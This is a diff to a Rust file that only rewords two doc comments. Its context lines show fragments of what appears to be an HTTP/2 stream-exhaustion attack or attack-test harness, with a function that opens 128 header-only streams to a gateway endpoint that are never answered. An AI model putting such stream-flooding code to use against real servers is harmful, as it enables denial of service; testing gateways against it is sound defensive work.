@@ -26,7 +26,7 @@ const PAUSE: Duration = Duration::from_millis(5);
 const HELD: &str = "/api/v1/documents/held";
 const WIDE: u32 = 0x7fff_ffff;
 
-/// What attackers need to know.
+/// Describes what attackers need to know.
 #[derive(Clone)]
 struct Target {
     gateway: SocketAddr,
@@ -85,7 +85,7 @@ impl Attack {
     }
 }
 
-/// As many streams as a connection may have, none of which is ever answered.
+/// Holds as many streams as a connection may have, none of which is ever answered.
 async fn held(target: &Target, (path, token): (&str, Option<&str>)) -> Result<()> {
     let fields = head("GET", path, token);
     let streams = (0..128).flat_map(|stream| frame(HEADERS, WHOLE, 2 * stream + 1, &fields));
